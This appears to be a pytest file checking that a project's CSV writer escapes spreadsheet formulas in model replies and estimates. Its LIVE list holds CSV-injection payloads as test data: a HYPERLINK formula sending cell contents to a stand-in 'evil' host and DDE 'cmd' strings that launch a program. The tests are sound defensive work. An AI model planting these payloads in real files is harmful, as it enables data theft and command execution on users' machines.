"""CSV files hold text of models and users; a spreadsheet that opens them runs none of it."""

from __future__ import annotations

import csv
import re
from pathlib import Path

import pandas as pd
import pyarrow as pa
import pytest

from needlework.atomic import inert, write_csv
from needlework.models.estimates import WorkRow, save_estimates
from needlework.planning.layout import ROOT
from needlework.records import GENERATIONS
from needlework.results.numbers import judge_verdicts

LIVE = [
    '=HYPERLINK("http://evil/?"&A1,"CORRECT")',
    *("+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0"),
    *("\t=1+1", "\n=1+1", "  =1+1", "\u00a0=1+1", "＝1+1", "-A1", "- =1+1"),
]


@pytest.mark.parametrize("text", LIVE)
def test_a_formula_is_text(text: str, tmp_path: Path) -> None:
    write_csv(pd.DataFrame({"n": [1], text: [text]}), tmp_path / "a.csv")
    with (tmp_path / "a.csv").open(encoding="utf-8", newline="") as file:
        assert list(csv.reader(file)) == [["n", f"'{text}"], ["1", f"'{text}"]]
    assert inert(inert(text)) == f"'{text}"


@pytest.mark.parametrize("text", ["-5", "+0.25", "-1e-05", "-", "-1.5%", "a=b", "1-2", "x@y", ""])
def test_numbers_and_other_text_stay(text: str, tmp_path: Path) -> None:
    frame = pd.DataFrame({"a": [text, None], "b": [-0.5, float("nan")], "c": [True, False]})
    write_csv(frame, tmp_path / "a.csv")
    frame.to_csv(tmp_path / "b.csv", index=False, lineterminator="\n")
    assert (tmp_path / "a.csv").read_bytes() == (tmp_path / "b.csv").read_bytes()


def test_replies_estimates_and_categories_hold_no_formula(tmp_path) -> None:
    write_csv(pd.DataFrame({"a": ["no\r=1+1", "\r=1+1", "x\r\n=1+1"]}), tmp_path / "a.csv")
    with (tmp_path / "a.csv").open(encoding="utf-8", newline="") as file:
        assert list(csv.reader(file)) == [["a"], ["no\n=1+1"], ["'\n=1+1"], ["x\n=1+1"]]
    write_csv(pd.DataFrame({"level": pd.Categorical(["=1+1", "b"])}), tmp_path / "a.csv")
    assert (tmp_path / "a.csv").read_text(encoding="utf-8") == "level\n'=1+1\nb\n"
    keys = {"judged_benchmark": ["m"], "model": ["m"], "judged": ["x"], "judged_sample": [0]}
    reply = dict.fromkeys(GENERATIONS.names) | {"instance_id": "a", "text": LIVE[0]}
    replies = pa.Table.from_pylist([reply | {"finish_reason": "stop"}], schema=GENERATIONS)
    found = judge_verdicts.verdicts(pa.table({"instance_id": ["a"], **keys}), replies)
    assert found["reply"].tolist() == [f"'{LIVE[0]}"]
    names = WorkRow.__dataclass_fields__
    save_estimates([WorkRow(**dict.fromkeys(names, "=1+1"))], tmp_path / "a.csv")
    rows = (tmp_path / "a.csv").read_text(encoding="utf-8").splitlines()
    assert set(rows[1].split(",")) == {"'=1+1"}


def test_scripts_write_text_of_models_only_with_write_csv() -> None:
    """The columns' meanings are this project's."""
    scripts = ROOT / "workflow/scripts"
    direct = re.compile(r"\.to_csv\(|csv\.writer\(|DictWriter\(")
    found = {
        str(path.relative_to(scripts))
        for path in scripts.rglob("*.py")
        if direct.search(path.read_text(encoding="utf-8"))
    }
    own = ("needlework/atomic.py", "needlework/models/estimates.py", "describe_columns.py")
    assert found == {*own}
